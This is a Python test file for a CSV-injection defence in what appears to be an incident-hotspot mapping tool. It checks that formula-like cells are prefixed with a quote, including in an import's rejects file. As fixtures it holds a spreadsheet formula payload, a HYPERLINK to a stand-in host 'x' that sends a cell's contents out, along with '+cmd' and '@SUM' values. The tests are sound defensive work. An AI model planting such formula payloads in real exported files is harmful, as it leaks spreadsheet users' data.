"""CSV injection: formula-like text cells get a leading quote; numbers and plain text do not."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from hotspots.core.schema import TIMEZONE
from hotspots.io.csv_safety import neutralise_csv_cell, neutralise_csv_frame

NOW = pd.Timestamp("2026-06-01 12:00", tz=TIMEZONE)

ATTACKS = [
    '=HYPERLINK("http://x/?leak="&A1,"y")',
    "+cmd",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    "-12.5",  # text that looks like a number: OWASP prefixes anything starting with "-"
    "=",
]
HARMLESS = ["", "Kungsgatan 1", "a=b", "1+1", "12.5", "rån", "'=already quoted", " =1+1", "x\t"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_starts_get_a_quote(cell: str) -> None:
    assert neutralise_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_text_is_unchanged(cell: str) -> None:
    assert neutralise_csv_cell(cell) == cell


def test_frame_treats_text_columns_only() -> None:
    frame = pd.DataFrame(
        {
            "row": pd.array([2, 3, 4], dtype="int64"),
            "value": pd.array(["-12.5", "=1+1", None], dtype="string"),
            "number": [-12.5, 3.0, np.nan],
            "mixed": pd.Series(["+x", -1, None], dtype=object),
        }
    )
    out = neutralise_csv_frame(frame)
    assert out["row"].tolist() == [2, 3, 4]
    assert out["value"].tolist()[:2] == ["'-12.5", "'=1+1"]
    assert pd.isna(out["value"][2])
    assert out["value"].dtype == frame["value"].dtype
    assert out["number"].tolist()[:2] == [-12.5, 3.0]  # a number stays a number
    assert out["mixed"].tolist()[:2] == ["'+x", -1]
    assert out["mixed"][2] is None
    assert frame["value"][1] == "=1+1"  # the input is not changed


def test_frame_columns_option() -> None:
    frame = pd.DataFrame({"a": ["=1"], "b": ["=2"]})
    out = neutralise_csv_frame(frame, columns=["b"])
    assert out.iloc[0].tolist() == ["=1", "'=2"]


def test_rejects_file_echoes_no_formula(tmp_path: Path) -> None:
    """Every text cell an import writes to the rejects file is inert, read back exactly."""
    from hotspots.load.ingest import import_file

    path = tmp_path / "evil.csv"
    attack = '=HYPERLINK("http://x/?leak="&A1,"y")'
    rows = [
        ["id", "occurred_at", "category", "lat", "lon"],
        ["e1", "2026-03-14 22:15", attack, "59.38", "13.50"],  # unknown category
        ["e2", "@SUM(1)", "drug_use", "59.38", "13.50"],  # unparseable time
        ["e3", "2026-03-14 22:15", "drug_use", "-59.38", "13.50"],  # outside the area
        ["e4", "2026-03-14 22:15", "drug_use", "59.38", "13.50"],
        ["+cmd", "2026-03-14 22:15", "drug_use", "59.38", "13.50"],
        ["+cmd", "2026-03-14 22:15", "drug_use", "59.38", "13.50"],  # merged: echoes the id
    ]
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    summary = import_file(path, db=tmp_path / "s.gpkg", now=NOW)
    assert (summary.accepted, summary.rejected, summary.merged) == (3, 3, 1)
    assert summary.rejects_path is not None
    with summary.rejects_path.open(encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh, delimiter=";"))
    assert lines[0] == ["Rad", "Kolumn", "Värde", "Orsak"]
    values = {int(line[0]): line[2] for line in lines[1:]}
    assert values[2] == "'" + attack
    assert values[3] == "'@SUM(1)"
    assert values[4].startswith("'-59.38")
    assert values[7] == "'+cmd"
    for line in lines[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
